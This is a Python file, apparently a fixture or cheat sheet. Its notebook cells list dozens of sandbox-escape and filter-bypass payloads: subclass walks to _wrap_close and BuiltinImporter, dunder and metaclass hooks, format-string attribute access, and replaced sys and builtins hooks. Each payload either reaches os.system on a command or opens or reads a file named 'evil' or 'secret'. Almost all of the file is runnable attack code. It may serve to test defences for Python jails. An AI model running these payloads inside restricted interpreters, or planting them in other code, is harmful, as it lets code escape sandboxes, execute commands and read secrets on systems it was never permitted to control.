# Reaching a function by another way than its name, and having it called by something that does not look like a call.
import os, sys, builtins
command = " ".join(touch)

# %% built-ins of a module — every module carries them along
sys.modules["posixpath"].__builtins__["open"](evil, "w")

# %% built-ins of a built-in function — a C function remembers its module
setattr(print.__self__, "found", print.__self__.open(evil, "w"))

# %% subclass walk — to a Python class whose __init__ has the globals of os (CVE-2025-9959 and most jail write-ups)
[kind for kind in ().__class__.__base__.__subclasses__() if kind.__name__ == "_wrap_close"][0].__init__.__globals__["system"](command)

# %% subclass walk to a loader — BuiltinImporter brings any built-in module
[kind for kind in object.__subclasses__() if kind.__name__ == "BuiltinImporter"][0].load_module("posix").system(command)

# %% subclass walk by type — type.__subclasses__ as a function
[kind for kind in type.__subclasses__(object) if kind.__name__ == "Popen"] or __import__("subprocess")
[kind for kind in type.__subclasses__(object) if kind.__name__ == "Popen"][0](touch).wait()

# %% globals of a method of warnings — the classic without any import
[kind for kind in object.__subclasses__() if kind.__name__ == "catch_warnings"][0]()._module.sys.modules["os"].system(command)

# %% sys.modules — a module that is loaded needs no import
sys.modules["posix"].system(command)

# %% loader of the namespace — __loader__ and __spec__ of a module
sys.modules["sys"].__loader__.load_module("posix").system(command)

# %% dunder import — the built-in behind the statement
builtins.__import__("os").system(command)

# %% names put together — a filter that looks for words
getattr(getattr(builtins, "__imp" + "ort__")("o" + "s"), "syst" + "em")(command)

# %% attribute by operator — attrgetter and methodcaller
__import__("operator").methodcaller("system", command)(os)

# %% star import — names that appear nowhere in the cell
from posix import *
system(command)

# %% module getattr — a lazy attribute of a package
sys.modules["os"].__getattribute__("system")(command)

# %% inherited module type — a module made anew around the dictionary of another
type("Shadow", (), dict(vars(os))).system(command)

# %% site printer — license() reads the files that it is told to read
license._Printer__filenames, license._Printer__lines = [secret], None
print(license)

# %% format string — '{0.x}' follows attributes (CVE-2023-41039)
print("{0.environ}".format(type("Reader", (), {"environ": property(lambda self: open(secret).read())})()))

# %% format specification — __format__ of a class of the cell
f"{type('Sly', (), {'__format__': lambda self, text: str(os.system(text))})():{command}}"

# %% operator plus — os.system as __add__ of a class: a call without a call
type("Sly", (), {"__add__": os.system})() + command

# %% operator minus reflected — … from the right
command - type("Sly", (), {"__rsub__": os.system})()

# %% item — … as __getitem__
type("Sly", (), {"__getitem__": os.system})()[command]

# %% item of a class — … as __class_getitem__
type("Sly", (), {"__class_getitem__": os.system})[command]

# %% missing key — … as __missing__ of a dictionary
type("Sly", (dict,), {"__missing__": os.system})()[command]

# %% attribute access — … as __getattr__
getattr(type("Sly", (), {"__getattr__": os.system})(), command)

# %% attribute of a metaclass — … as __getattr__ of the class of a class
getattr(type("Meta", (type,), {"__getattr__": os.system})("Sly", (), {}), command)

# %% membership — … as __contains__
command in type("Sly", (), {"__contains__": os.system})()

# %% comparison — … as __lt__, by sorting
sorted([type("Sly", (), {"__lt__": lambda self, other: os.system(command)})() for number in range(2)])

# %% comparison with a string — … as __eq__
type("Sly", (), {"__eq__": os.system})() == command

# %% instance check — … as __instancecheck__ of a metaclass
isinstance(command, type("Meta", (type,), {"__instancecheck__": os.system})("Sly", (), {}))

# %% exception match — the class of an except clause is compared by code
try:
    1 / 0
except type("Sly", (Exception,), {}) if os.system(command) else Exception:
    pass

# %% descriptor — __get__ and __set_name__ of a class attribute
type("Sly", (), {"x": type("D", (), {"__set_name__": lambda self, owner, name: os.system(command)})()})

# %% init subclass — a base class runs code when one derives from it
type("Derived", (type("Base", (), {"__init_subclass__": lambda *unused: os.system(command)}),), {})

# %% metaclass prepare — code runs before a class body does
class Sly(metaclass=type("Meta", (type,), {"__prepare__": lambda *unused: os.system(command) and {} or {}})):
    pass

# %% decorator — a call written as @
@os.system
@(lambda unused: command)
class Sly:
    pass

# %% default argument — runs when a function is defined
def sly(argument=os.system(command)):
    pass

# %% annotation — so does this
def sly(argument: os.system(command)):
    pass
sly.__annotations__

# %% with statement — __enter__ and __exit__
with type("Sly", (), {"__enter__": lambda self: os.system(command), "__exit__": lambda *unused: None})():
    pass

# %% iteration — __iter__ and __next__
list(iter(lambda: os.system(command), 0))

# %% unpacking — keys() and __getitem__ of what is behind **
dict(**type("Sly", (), {"keys": lambda self: [command], "__getitem__": lambda self, key: os.system(key)})())

# %% match statement — __match_args__ and attributes of a pattern
match 1:
    case object(real=one) if os.system(command):
        pass

# %% walrus in a comprehension — a call where one expects a loop variable
[found for name in [command] if (found := os.system(name)) is not None]

# %% call by a tracing function — sys.call_tracing calls what it gets
sys.call_tracing(os.system, (command,))

# %% exit function — quit and exit are objects with __call__
type(exit).__call__ = lambda self: os.system(command)
exit()

# %% print to an object — print calls write() of what it gets
print(command, file=type("Sly", (), {"write": lambda self, text: os.system(text)})())

# %% help — pydoc's pager and helper are functions in a module
import pydoc
pydoc.pager = pydoc.plainpager = lambda *unused: os.system(command)
pydoc.help(int)

# %% breakpoint — the hook that the built-in calls
sys.breakpointhook = lambda *unused: os.system(command)
breakpoint()

# %% display hook — what shows a result
sys.displayhook = lambda value: os.system(command)
sys.displayhook(1)

# %% unraisable hook — what tells of an exception in a finalizer
sys.unraisablehook = lambda unused: os.system(command)
thing = type("Sly", (), {"__del__": lambda self: 1 / 0})()
del thing

# %% import hook — builtins.__import__ replaced by one's own
builtins.__import__ = lambda name, *unused: os.system(command)
import json.decoder

# %% build class — builtins.__build_class__ replaced
builtins.__build_class__ = lambda *unused: os.system(command)
class Sly:
    pass
